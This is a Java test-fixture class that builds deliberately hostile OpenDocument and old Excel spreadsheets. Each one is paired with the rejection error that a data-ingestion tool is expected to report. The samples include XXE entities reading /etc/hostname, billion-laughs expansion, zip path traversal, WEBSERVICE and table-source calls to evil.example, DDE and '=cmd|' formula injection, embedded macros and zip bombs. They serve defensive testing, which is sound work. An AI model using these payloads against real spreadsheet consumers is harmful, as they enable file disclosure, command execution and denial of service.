package org.rapporteur.cli;

import static org.rapporteur.cli.HostileFile.CANARY;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.function.Consumer;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.apache.poi.hssf.record.crypto.Biff8EncryptionKey;
import org.apache.poi.hssf.usermodel.HSSFSheet;
import org.apache.poi.hssf.usermodel.HSSFWorkbook;
import org.apache.poi.poifs.filesystem.POIFSFileSystem;
import org.rapporteur.ingest.Workbook;

/// The OpenDocument spreadsheets and the old workbooks of `HostileCorpusTest`.
final class HostileSheets {

  private static final String TYPE = "application/vnd.oasis.opendocument.spreadsheet";
  private static final String OLD = "old-workbooks: true";
  private static final String[] HEADER = {"indicator", "period", "value", "unit"};
  private static final String[] FACT = {"victims-identified", "2023-04/2024-03", "7", "person"};

  private HostileSheets() {}

  static List<HostileFile> openDocuments() {
    byte[] whole = ods(rows(FACT), Map.of());
    byte[] bomb = ods(" ".repeat(60_000_000), Map.of());
    byte[] twice = ods(rows(FACT), Map.of("contenu.xml", CANARY));
    String laughs =
        "<!DOCTYPE x [<!ENTITY a 'ha'><!ENTITY b '&a;&a;&a;&a;'><!ENTITY c '&b;&b;&b;&b;'>]>";
    String outside = "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/hostname'>]>";
    return List.of(
        file("an empty spreadsheet", new byte[0], "S-001  f.ods"),
        file("half a spreadsheet", Arrays.copyOf(whole, whole.length / 2), "S-001  f.ods"),
        file("a table named .ods", bytes(CANARY), "S-002  f.ods"),
        file("a workbook named .ods", Workbook.honest().bytes(), "S-002  f.ods"),
        file(
            "a locked spreadsheet",
            ods(
                rows(FACT),
                Map.of(
                    "META-INF/manifest.xml",
                    "<m:manifest><m:file-entry><m:encryption-data/></m:file-entry></m:manifest>")),
            "S-001  f.ods"),
        file("a bomb of blanks", bomb, "S-004  f.ods"),
        file(
            "a spreadsheet with a part that stands twice",
            Bytes.replaced(twice, "contenu.xml", "content.xml"),
            "S-005  f.ods"),
        file("a climbing part", ods(rows(FACT), Map.of("../evil.xml", CANARY)), "S-005  f.ods"),
        file("Basic", ods(rows(FACT), Map.of("Basic/script-lc.xml", CANARY)), "S-003  f.ods"),
        file("Python", ods(rows(FACT), Map.of("Scripts/python/x.py", CANARY)), "S-003  f.ods"),
        file("an outside entity in a sheet", declared(outside), "S-005  f.ods"),
        file("laughter in a sheet", declared(laughs), "S-005  f.ods"),
        file(
            "a sheet of another file",
            ods("<table:table-source xlink:href='http://evil.example/'/>" + rows(FACT), Map.of()),
            "S-003  f.ods"),
        formula("of:=WEBSERVICE(&quot;http://evil.example/&quot;)"),
        formula("of:=&apos;file:///etc/x.ods&apos;#$a.A1"),
        formula("of:=DDE(&quot;soffice&quot;;&quot;x&quot;;&quot;A1&quot;)"),
        repeated("a row without end", "<table:table-row table:number-rows-repeated='1048576'>"),
        file(
            "a column without end",
            ods("<table:table-row>" + cell("x", "1048576") + "</table:table-row>", Map.of()),
            "S-004  f.ods"),
        file(
            "a paragraph longer than any cell",
            ods(rows("x".repeat(32_768)), Map.of()),
            "S-004  f.ods"),
        file("a control in a paragraph", ods(rows("a&#7;b"), Map.of()), "S-001  f.ods"),
        file(
            "a code of a spreadsheet written backwards",
            ods(rows("\u202Ed\u0435ifitnedi-smitciv", FACT[1], FACT[2], FACT[3]), Map.of()),
            "V-035  f.ods \u203a figures \u203a A2"),
        file(
            "a formula as a code of a spreadsheet",
            ods(rows("=cmd|'/c calc'!A1", FACT[1], FACT[2], FACT[3]), Map.of()),
            "V-030  f.ods \u203a figures \u203a A2"));
  }

  static List<HostileFile> oldWorkbooks() {
    byte[] whole = xls(_ -> {});
    return List.of(
        old("an empty old workbook", new byte[0], "S-001  f.xls"),
        old("half an old workbook", Arrays.copyOf(whole, whole.length / 2), "S-001  f.xls"),
        old("a table named .xls", bytes(CANARY), "S-002  f.xls"),
        old("a workbook named .xls", Workbook.honest().bytes(), "S-002  f.xls"),
        old("an old workbook too large", Arrays.copyOf(whole, 5_000_001), "S-004  f.xls"),
        old("a locked old workbook", locked(), "S-001  f.xls"),
        old("Visual Basic", with("_VBA_PROJECT_CUR"), "S-003  f.xls"),
        old("an embedded file", with("MBD0001"), "S-003  f.xls"),
        old("a sheet of macros", macros(whole), "S-003  f.xls"),
        old("a link to another workbook", xls(HostileSheets::link), "S-003  f.xls"),
        old(
            "a formula as a code of an old workbook",
            xls(sheet -> sheet.getRow(1).getCell(0).setCellValue("=cmd|'/c calc'!A1")),
            "V-030  f.xls \u203a figures \u203a A2"),
        old(
            "the longest cell of an old workbook",
            xls(sheet -> sheet.getRow(1).getCell(2).setCellValue("9".repeat(32_767))),
            "V-020  f.xls \u203a figures \u203a C2"),
        old(
            "a code of an old workbook written backwards",
            xls(sheet -> sheet.getRow(1).getCell(0).setCellValue("\u202Ex")),
            "V-035  f.xls \u203a figures \u203a A2"),
        old(
            "a far column of an old workbook",
            xls(sheet -> sheet.getRow(1).createCell(255).setCellValue(1)),
            "S-004  f.xls"));
  }

  private static byte[] bytes(String text) {
    return text.getBytes(StandardCharsets.UTF_8);
  }

  private static HostileFile file(String title, byte[] content, String finding) {
    return HostileFile.of(title, "f.ods", content, "error " + finding);
  }

  private static HostileFile old(String title, byte[] content, String finding) {
    return HostileFile.of(title, "f.xls", content, "error " + finding).with(OLD);
  }

  private static HostileFile formula(String formula) {
    String cells =
        "<table:table-row><table:table-cell table:formula='%s'/></table:table-row>"
            .formatted(formula);
    return file(
        "the formula " + formula, ods(cells, Map.of()), "S-003  f.ods \u203a figures \u203a A2");
  }

  private static HostileFile repeated(String title, String row) {
    return file(title, ods(row + cell("x", "1") + "</table:table-row>", Map.of()), "S-004  f.ods");
  }

  private static String cell(String text, String repeated) {
    return "<table:table-cell table:number-columns-repeated='%s'><text:p>%s</text:p></table:table-cell>"
        .formatted(repeated, text);
  }

  private static String rows(String... texts) {
    StringBuilder cells = new StringBuilder("<table:table-row>");
    for (String text : texts) {
      cells.append(cell(text, "1"));
    }
    return cells.append("</table:table-row>").toString();
  }

  /// A spreadsheet whose content begins with a declaration.
  private static byte[] declared(String declaration) {
    return ods(rows(FACT), Map.of("content.xml", declaration + "<x>&e;</x>"));
  }

  /// A sheet of a header and these rows.
  private static byte[] ods(String rows, Map<String, String> more) {
    Map<String, String> parts = new LinkedHashMap<>();
    parts.put("mimetype", TYPE);
    parts.put(
        "content.xml",
        "<office:document-content><office:body><office:spreadsheet><table:table"
            + " table:name='figures'>"
            + rows(HEADER)
            + rows
            + "</table:table></office:spreadsheet></office:body></office:document-content>");
    parts.putAll(more);
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
      for (Map.Entry<String, String> part : parts.entrySet()) {
        zip.putNextEntry(new ZipEntry(part.getKey()));
        zip.write(bytes(part.getValue()));
      }
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
    return bytes.toByteArray();
  }

  private static byte[] xls(Consumer<HSSFSheet> change) {
    try (HSSFWorkbook workbook = new HSSFWorkbook()) {
      HSSFSheet sheet = workbook.createSheet("figures");
      for (int row = 0; row < 2; row++) {
        sheet.createRow(row);
        for (int column = 0; column < HEADER.length; column++) {
          sheet
              .getRow(row)
              .createCell(column)
              .setCellValue(row == 0 ? HEADER[column] : FACT[column]);
        }
      }
      change.accept(sheet);
      return written(workbook);
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  private static void link(HSSFSheet sheet) {
    try (HSSFWorkbook other = new HSSFWorkbook()) {
      other.createSheet("a");
      int _ = sheet.getWorkbook().linkExternalWorkbook("other.xls", other);
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  private static byte[] locked() {
    Biff8EncryptionKey.setCurrentUserPassword("secret");
    try (HSSFWorkbook workbook = new HSSFWorkbook()) {
      workbook.createSheet("figures").createRow(0).createCell(0).setCellValue(CANARY);
      return written(workbook);
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    } finally {
      Biff8EncryptionKey.setCurrentUserPassword(null);
    }
  }

  private static byte[] written(HSSFWorkbook workbook) throws IOException {
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    workbook.write(bytes);
    return bytes.toByteArray();
  }

  /// An old workbook with one more part.
  private static byte[] with(String part) {
    try (HSSFWorkbook workbook = new HSSFWorkbook();
        POIFSFileSystem file = new POIFSFileSystem()) {
      workbook.createSheet("figures");
      file.createDocument(new ByteArrayInputStream(workbook.getBytes()), "Workbook");
      file.createDocument(new ByteArrayInputStream(bytes(CANARY)), part);
      ByteArrayOutputStream bytes = new ByteArrayOutputStream();
      file.writeFilesystem(bytes);
      return bytes.toByteArray();
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  /// The sheet is said to be one of macros: [MS-XLS] 2.4.28, the byte before the name.
  private static byte[] macros(byte[] workbook) {
    return Bytes.replaced(
        workbook, "\0\0" + (char) 7 + "\0figures", "\0\1" + (char) 7 + "\0figures");
  }
}
